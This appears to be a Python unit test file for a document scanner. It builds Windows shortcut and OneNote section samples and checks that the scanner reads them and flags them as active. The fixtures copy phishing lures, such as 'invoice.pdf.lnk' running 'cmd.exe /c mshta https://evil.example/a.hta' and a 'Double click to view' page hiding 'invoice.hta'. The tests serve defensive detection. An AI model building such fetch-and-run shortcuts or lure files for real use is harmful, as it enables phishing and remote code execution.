"""Shortcuts and OneNote sections, written by their specifications."""

from __future__ import annotations

import struct
import time

from tests.unit.files.made import docx, read_bytes, words_of

STORED = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
SECTION = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(64)


def _shortcut(arguments: str, *, wide: bool = True) -> bytes:
    """Write a shortcut (MS-SHLLINK) to a program on the disk, with a name and arguments."""
    flags = 0x02 | 0x04 | 0x20 | (0x80 if wide else 0)
    head = struct.pack("<I", 0x4C) + bytes.fromhex("0114020000000000c000000000000046") + struct.pack("<I", flags)
    path = b"C:\\Windows\\System32\\cmd.exe\0"
    info = struct.pack("<IIIIIII", 28 + len(path) + 1, 28, 1, 0, 28, 0, 28 + len(path)) + path + b"\0"
    texts = b""
    for text in ("Invoice", arguments):
        texts += struct.pack("<H", len(text)) + text.encode("utf-16-le" if wide else "cp1252")
    return head.ljust(0x4C, b"\0") + info + texts + bytes(4)


def _section(*files: bytes, words: str = "") -> bytes:
    """Write the pieces of a OneNote section: words in UTF-16, and stored files."""
    stored = b"".join(STORED + struct.pack("<Q", len(data)) + bytes(12) + data + bytes(16) for data in files)
    return SECTION + b"\0\0\xff\xff" + words.encode("utf-16-le") + b"\0\0\xff\xff" + stored


def test_a_shortcut_shows_what_it_starts() -> None:
    """The target, its arguments and the links in them are read, in both widths of letters."""
    for wide in (True, False):
        found = read_bytes(_shortcut("/c mshta https://evil.example/a.hta", wide=wide), "invoice.pdf.lnk")

        assert words_of(found) == "C:\\Windows\\System32\\cmd.exe /c mshta https://evil.example/a.hta\nInvoice"
        assert [link.url for link in found.links] == ["https://evil.example/a.hta"]
        assert found.is_active


def test_a_shortcut_by_environment_is_read() -> None:
    """The block of a target with a variable goes before the path."""
    block = struct.pack("<II", 0x314, 0xA0000001) + b"%ComSpec%".ljust(260, b"\0")
    block += "%ComSpec%".encode("utf-16-le").ljust(520, b"\0")
    data = _shortcut("/c calc")[:-4] + block + bytes(4)

    assert words_of(read_bytes(data)).startswith("%ComSpec% /c calc")


def test_a_truncated_shortcut_is_active_all_the_same() -> None:
    """A shortcut that ends early still says so."""
    data = _shortcut("/c calc")

    assert {read_bytes(data[:size]).read for size in range(0x50, len(data))} <= {"yes", "damaged"}


def test_a_section_has_its_words_and_files() -> None:
    """The words of a page and the file behind its picture are read; a script makes it active."""
    found = read_bytes(_section(b"<script>run()</script>", words="Double click to view\0\0invoice.hta\0\0"), "a.one")

    assert "Double click to view" in words_of(found)
    assert found.members == ("invoice.hta",)
    assert found.is_active


def test_other_letters_of_a_section_are_read() -> None:
    """Japanese behind its size is read."""
    words = "請求書をご確認ください".encode("utf-16-le")
    found = read_bytes(_section() + struct.pack("<I", len(words)) + words + bytes(3), "a.one")

    assert "請求書をご確認ください" in words_of(found)


def test_a_document_in_a_section_is_read() -> None:
    """A stored document is read as a file; a picture is none of the files attached."""
    inner = docx("<w:p><w:r><w:t>inside words</w:t></w:r></w:p>")
    found = read_bytes(_section(b"\x89PNG\r\n\x1a\n" + bytes(40), inner, words="plan.docx"), "a.one")

    assert "inside words" in found.files[1].document.text
    assert [fact.value for fact in found.facts] == ["plan.docx"]
    assert not found.is_active


def test_a_section_of_lies_is_bounded() -> None:
    """Sizes beyond the file, and ten thousand marks, end in time."""
    begin = time.perf_counter()
    data = SECTION + (STORED + struct.pack("<Q", 2**60) + bytes(12)) + STORED * 10_000

    assert read_bytes(data, "a.one").kind == "application/onenote"
    assert time.perf_counter() - begin < 1
